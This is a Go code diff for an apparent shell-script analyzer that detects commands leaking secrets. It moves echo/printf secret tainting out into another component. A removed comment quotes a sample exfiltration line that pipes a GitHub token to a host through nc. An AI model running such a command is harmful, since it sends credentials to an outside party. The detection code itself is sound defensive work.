@@ -74,7 +74,7 @@ func (a *analyzer) secretSource(stmts []*syntax.Stmt, st *shell.State) string {
 					found = interpreterEnvDump(words)
 				}
 				if found == "" && len(words) > 0 && (words[0] == "echo" || words[0] == "printf") {
-					found = a.printedSecret(x.Args[1:], st)
+					found = a.x.PrintedSecret(x.Args[1:], st)
 				}
 			case *syntax.DeclClause:
 				if v := x.Variant.Value; v == "export" || v == "declare" || v == "typeset" {
@@ -101,39 +101,6 @@ func (a *analyzer) secretSource(stmts []*syntax.Stmt, st *shell.State) string {
 		})
 	}
 	return found
-}
-
-// printedSecret is the taint of what echo or printf prints: a credential
-// variable, or a variable assigned from a secret source, among its words
-// (echo "$GITHUB_TOKEN" | nc x 80 sends the token).
-func (a *analyzer) printedSecret(words []*syntax.Word, st *shell.State) string {
-	for _, w := range words {
-		if s := a.partsSecret(w.Parts, st); s != "" {
-			return s
-		}
-	}
-	return ""
-}
-
-// partsSecret is the taint of the first variable among a word's parts
-// ($X, "$X", "a${X}b"): a plain loop, no walk, since echo runs on the hot
-// path (substitutions are sources of their own, see secretSource).
-func (a *analyzer) partsSecret(parts []syntax.WordPart, st *shell.State) string {
-	for _, p := range parts {
-		switch x := p.(type) {
-		case *syntax.ParamExp:
-			if x.Param != nil {
-				if s := a.varSecret(x.Param.Value, st); s != "" {
-					return s
-				}
-			}
-		case *syntax.DblQuoted:
-			if s := a.partsSecret(x.Parts, st); s != "" {
-				return s
-			}
-		}
-	}
-	return ""
 }
 
 // secretCall recognises a simple command that prints secrets.
